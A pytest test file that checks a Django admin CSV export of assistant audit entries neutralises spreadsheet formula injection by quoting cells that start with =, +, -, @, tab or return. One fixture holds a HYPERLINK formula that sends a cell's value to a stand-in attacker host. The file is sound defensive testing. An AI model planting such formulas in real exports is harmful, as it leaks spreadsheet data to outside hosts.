"""The audit CSV export cannot carry a formula into the spreadsheet that opens it."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from assistant.admin.audit import EXPORT_FIELDS
from assistant.models import AuditEntry

EXPORT = "/admin/assistant/auditentry/export/csv/"


def exported(client: Client) -> list[dict[str, str]]:
    body = b"".join(client.get(EXPORT)).decode()  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_is_exported_as_quoted_text(
    admin_client: Client, start: str
) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/"&A1,"x")'
    AuditEntry.objects.create(
        username=formula, operation=formula, decision="failed", error=formula, source="rest"
    )

    (row,) = exported(admin_client)

    assert row["username"] == row["operation"] == row["error"] == "'" + formula
    assert row["source"] == "rest"


@pytest.mark.django_db
def test_ordinary_cells_numbers_and_entities_are_exported_unchanged(admin_client: Client) -> None:
    entry = AuditEntry.objects.create(
        username="alice",
        operation="list_orders",
        decision="executed",
        duration_ms=1.5,
        entities={"note": "=1+1"},
        error="a plain error - with a dash inside",
    )

    (row,) = exported(admin_client)

    assert set(row) == set(EXPORT_FIELDS)
    assert (row["username"], row["operation"], row["duration_ms"]) == (
        "alice",
        "list_orders",
        "1.5",
    )
    assert row["error"] == entry.error
    assert json.loads(row["entities"]) == {"note": "=1+1"}  # inside a JSON object, not a formula
